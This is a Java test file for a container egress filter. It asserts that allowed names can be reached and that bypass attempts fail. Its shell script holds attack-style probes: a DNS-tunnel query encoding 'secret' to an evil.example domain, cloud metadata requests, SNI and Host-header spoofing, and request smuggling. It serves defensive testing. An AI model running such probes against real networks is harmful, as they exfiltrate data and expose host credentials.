@@ -1,0 +1,274 @@
+package io.carrel;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.google.common.base.Splitter;
+import com.google.common.net.InetAddresses;
+import io.carrel.netns.Egress;
+import io.carrel.netns.EgressEvent;
+import io.carrel.testing.ChildJvm;
+import io.carrel.testing.NeedsProgram;
+import io.carrel.testing.Outside;
+import io.carrel.testing.TestServers;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.SocketTimeoutException;
+import java.net.UnknownHostException;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.concurrent.ConcurrentSkipListSet;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.Timeout;
+
+/**
+ * What a container can reach that may reach some names only, and what it cannot, however it tries. It all happens in one
+ * network namespace that plays the host and the Internet, in a JVM of its own.
+ */
+@Tag("kernel")
+@NeedsProgram({"curl", "dig", "ip", "perl", "socat", "unshare"})
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+@Timeout(120)
+class EgressTest {
+
+    /** What each attempt in {@link #ATTEMPTS} came to, and what the host saw. */
+    private Map<String, String> results = Map.of();
+
+    private static final String ATTEMPTS =
+            """
+            direct="curl -sS -k -m 5 --noproxy *"
+            try() { name=$1; shift; echo "$name=$("$@" 2>&1 | tr -d '\\r' | tr '\\n' ' ')"; }
+            status() { dig +time=2 +tries=1 "$@" | sed -n 's/.*status: \\([A-Z]*\\),.*/\\1/p'; }
+            set -f
+
+            try http $direct http://repo.example.org/
+            try https $direct https://repo.example.org/
+            try wildcard $direct http://a.b.example.net/
+            try keepalive $direct http://repo.example.org/1 http://repo.example.org/2
+            try proxied curl -sS -m 5 http://repo.example.org/
+            try connect curl -sS -k -m 5 https://repo.example.org/
+            try two-names curl -sS -m 5 http://repo.example.org/ http://a.b.example.net/
+            try socks curl -sS -k -m 5 -x socks5h://127.0.0.1:3128 https://repo.example.org/
+            try greeting socat -T5 - TCP:repo.example.org:8080
+            try ipv6-only-name $direct http://six.example.net/
+            try txt status repo.example.org TXT
+            try aaaa status repo.example.org AAAA
+
+            try direct-ip $direct http://198.51.100.10/
+            try direct-ip-socket socat -T3 - TCP:198.51.100.10:8080
+            try wildcard-itself $direct http://example.net/
+            try other-port $direct http://repo.example.org:8081/
+            try other-dns status @198.51.100.10 repo.example.org
+            try tunnel status c2VjcmV0.evil.example TXT
+            try tunnel-tcp status +tcp c2VjcmV0.evil.example
+            try other-sni $direct --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
+            try no-sni $direct https://127.1.0.1/evil
+            try other-host $direct -H 'Host: other.example.org' http://repo.example.org/evil
+            try no-tls $direct http://repo.example.org:443/evil
+            try other-name-by-connect curl -sS -k -m 5 https://other.example.org/evil
+            try other-port-by-connect curl -sS -m 5 -p -x http://127.0.0.1:3128 http://repo.example.org:81/evil
+            try ip-by-connect curl -sS -k -m 5 https://198.51.100.10/evil
+            try ip-by-proxy curl -sS -m 5 http://198.51.100.10/evil
+            try other-sni-by-connect curl -sS -k -m 5 --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
+            try ip-by-socks curl -sS -k -m 5 -x socks5://127.0.0.1:3128 http://198.51.100.10/evil
+            try loopback-by-proxy curl -sS -m 5 --noproxy '' http://127.0.0.1:9999/evil
+            try loopback $direct http://127.0.0.1:9999/evil
+            try name-of-loopback $direct http://loop.example.net/evil
+            try name-of-private $direct http://private.example.net/evil
+            try name-of-metadata curl -sS -m 5 http://meta.example.net/evil
+            try name-of-mapped curl -sS -m 5 http://mapped.example.net/evil
+            try metadata $direct http://169.254.169.254/evil
+            try metadata-by-proxy curl -sS -m 5 http://169.254.169.254/evil
+            try ipv6 $direct 'http://[2001:db8::1]/evil'
+            try raw perl -e 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or print "refused: $!"'
+            try packet perl -e 'socket(my $s, 17, 3, 768) or print "refused: $!"'
+            try abstract socat -T3 - ABSTRACT-CONNECT:carrel-egress-test
+            try udp perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"198.51.100.10:9") or print "refused: $!"'
+            request='GET /1 HTTP/1.1\\r\\nHost: repo.example.org\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n'
+            two() { printf "$request" | socat -T3 - TCP:repo.example.org:80; }
+            try second-request two
+            """;
+
+    /** Plays the host. */
+    static final class World {
+
+        private static final Map<String, String> NAMES = Map.of(
+                "repo.example.org", "198.51.100.10",
+                "a.b.example.net", "198.51.100.10",
+                "other.example.org", "198.51.100.10",
+                "example.net", "198.51.100.10",
+                "six.example.net", "2001:db8:100::10",
+                "loop.example.net", "127.0.0.1",
+                "private.example.net", "10.1.2.3",
+                "meta.example.net", "169.254.169.254",
+                "mapped.example.net", "64:ff9b::a9fe:a9fe");
+
+        public static void main(String[] arguments) throws Exception {
+            Set<String> resolved = new ConcurrentSkipListSet<>();
+            ConcurrentLinkedQueue<EgressEvent> events = new ConcurrentLinkedQueue<>();
+            TestServers servers = TestServers.start(InetAddresses.forString("198.51.100.10"));
+            Process unix = new ProcessBuilder("socat", "ABSTRACT-LISTEN:carrel-egress-test,fork", "EXEC:echo evil").start();
+            try (ServerSocket loopback = new ServerSocket(9999, 1, InetAddress.getLoopbackAddress())) {
+                Egress egress = Egress.allow("repo.example.org:80,443,8080", "*.example.net")
+                        .withListener(events::add)
+                        .withResolver(name -> {
+                            resolved.add(name);
+                            String address = NAMES.get(name);
+                            if (address == null) {
+                                throw new UnknownHostException(name);
+                            }
+                            return List.of(InetAddresses.forString(address));
+                        });
+                ContainerResult result = Container.builder()
+                        .network(Network.egress(egress))
+                        .command("sh", "-c", ATTEMPTS)
+                        .build()
+                        .run();
+                System.out.print(result.stdout());
+                System.out.print(result.stderr());
+                System.out.println("resolved=" + resolved);
+                System.out.println("asked=" + servers.asked());
+                loopback.setSoTimeout(1);
+                System.out.println("loopback-connections=" + connections(loopback));
+                events.forEach(event -> System.out.println("event " + event + "="));
+            } finally {
+                unix.destroy();
+            }
+            System.exit(0);
+        }
+
+        private static int connections(ServerSocket server) throws Exception {
+            try {
+                server.accept().close();
+                return 1;
+            } catch (SocketTimeoutException none) {
+                return 0;
+            }
+        }
+    }
+
+    @BeforeAll
+    void attempt() throws Exception {
+        String world = "ip link set lo up && ip addr add 198.51.100.10/32 dev lo && ip addr add 2001:db8:100::10/128 dev lo nodad"
+                + " && exec \"$@\"";
+        String[] unshare = Outside.uid() == 0
+                ? new String[] {"unshare", "-n", "sh", "-c", world, "sh"}
+                : new String[] {"unshare", "-Urn", "sh", "-c", world, "sh"};
+        String output = ChildJvm.by(unshare).run(World.class).stdout();
+        Map<String, String> read = new LinkedHashMap<>();
+        Splitter.on('\n').omitEmptyStrings().splitToStream(output).forEach(line -> {
+            int equals = line.indexOf('=');
+            read.put(equals < 0 ? line : line.substring(0, equals), line.substring(equals + 1).strip());
+        });
+        results = read;
+    }
+
+    private String result(String attempt) {
+        assertThat(results).containsKey(attempt);
+        return String.valueOf(results.get(attempt));
+    }
+
+    @Test
+    void allowedNamesAreReachedByTheirAddress() {
+        assertThat(result("http")).isEqualTo("plain repo.example.org");
+        assertThat(result("https")).isEqualTo("secure repo.example.org");
+        assertThat(result("wildcard")).isEqualTo("plain a.b.example.net");
+        assertThat(result("keepalive")).isEqualTo("plain repo.example.org plain repo.example.org");
+        assertThat(result("greeting")).isEqualTo("greetings");
+    }
+
+    @Test
+    void allowedNamesAreReachedByTheProxyOfTheEnvironment() {
+        assertThat(result("proxied")).isEqualTo("plain repo.example.org");
+        assertThat(result("connect")).isEqualTo("secure repo.example.org");
+        assertThat(result("two-names")).isEqualTo("plain repo.example.org plain a.b.example.net");
+        assertThat(result("socks")).isEqualTo("secure repo.example.org");
+    }
+
+    @Test
+    void anAllowedNameHasNoOtherRecords() {
+        assertThat(result("txt")).isEqualTo("NOERROR");
+        assertThat(result("aaaa")).isEqualTo("NOERROR");
+    }
+
+    @Test
+    void addressesThatNobodyGaveAreOutOfReach() {
+        assertThat(result("direct-ip")).contains("Couldn't connect");
+        assertThat(result("direct-ip-socket")).contains("Network is unreachable");
+        assertThat(result("udp")).isEqualTo("refused: Network is unreachable");
+        assertThat(result("ipv6")).contains("Couldn't connect");
+        assertThat(result("metadata")).contains("Couldn't connect");
+        assertThat(result("ip-by-connect")).contains("403");
+        assertThat(result("ip-by-proxy")).isEqualTo("carrel: 198.51.100.10:80: it is not allowed");
+        assertThat(result("ip-by-socks")).contains("(2)");
+        assertThat(result("metadata-by-proxy")).isEqualTo("carrel: 169.254.169.254:80: it is not allowed");
+    }
+
+    @Test
+    void otherNamesAndPortsAreRefused() {
+        assertThat(result("wildcard-itself")).contains("Could not resolve host");
+        assertThat(result("other-port")).contains("Couldn't connect");
+        assertThat(result("other-port-by-connect")).contains("403");
+        assertThat(result("other-name-by-connect")).contains("403");
+    }
+
+    @Test
+    void deniedNamesReachNoNameServer() {
+        assertThat(result("other-dns")).isEmpty();
+        assertThat(result("tunnel")).isEqualTo("NXDOMAIN");
+        assertThat(result("tunnel-tcp")).isEqualTo("NXDOMAIN");
+        assertThat(result("resolved")).doesNotContain("evil").doesNotContain("other.example.org");
+    }
+
+    @Test
+    void nobodyElseIsAskedForThroughAnAllowedConnection() {
+        assertThat(result("other-sni")).contains("SSL_ERROR_SYSCALL");
+        assertThat(result("other-sni-by-connect")).contains("SSL_ERROR_SYSCALL");
+        assertThat(result("no-sni")).contains("SSL_ERROR_SYSCALL");
+        assertThat(result("other-host")).contains("Empty reply");
+        assertThat(result("no-tls")).contains("Empty reply");
+        assertThat(result("second-request")).startsWith("HTTP/1.1 200 OK").endsWith("plain repo.example.org");
+        assertThat(result("asked"))
+                .isEqualTo("[a.b.example.net/, repo.example.org/, repo.example.org/1, repo.example.org/2]");
+    }
+
+    @Test
+    void anAllowedNameMustNotLeadToTheHostOrItsNeighbours() {
+        assertThat(result("name-of-loopback")).contains("Could not resolve host");
+        assertThat(result("name-of-private")).contains("Could not resolve host");
+        assertThat(result("name-of-metadata")).endsWith("its addresses are not of the Internet: 169.254.169.254");
+        assertThat(result("name-of-mapped")).contains("its addresses are not of the Internet");
+    }
+
+    @Test
+    void theHostsOwnSocketsAreOutOfReach() {
+        assertThat(result("loopback")).contains("Couldn't connect");
+        assertThat(result("loopback-by-proxy")).isEqualTo("carrel: 127.0.0.1:9999: it is not allowed");
+        assertThat(result("abstract")).contains("Connection refused");
+        assertThat(result("raw")).isEqualTo("refused: Operation not permitted");
+        assertThat(result("packet")).isEqualTo("refused: Operation not permitted");
+        assertThat(result("loopback-connections")).isEqualTo("0");
+    }
+
+    @Test
+    void everyAttemptIsTold() {
+        assertThat(results.keySet())
+                .contains(
+                        "event allowed name repo.example.org at 198.51.100.10",
+                        "event allowed connection repo.example.org:443 at 198.51.100.10",
+                        "event allowed proxy a.b.example.net:80 at 198.51.100.10",
+                        "event denied name c2vjcmv0.evil.example: it is not allowed",
+                        "event denied name private.example.net: its addresses are not of the Internet: 10.1.2.3",
+                        "event denied connection repo.example.org:443: its TLS greeting asks for other.example.org",
+                        "event denied connection repo.example.org:443: its TLS greeting names no server",
+                        "event denied connection repo.example.org:80: its HTTP request asks for other.example.org",
+                        "event denied connection six.example.net:80: 2001:db8:100:0:0:0:0:10: ECONNREFUSED",
+                        "event denied proxy other.example.org:443: it is not allowed",
+                        "event denied proxy 169.254.169.254:80: it is not allowed");
+    }
+}
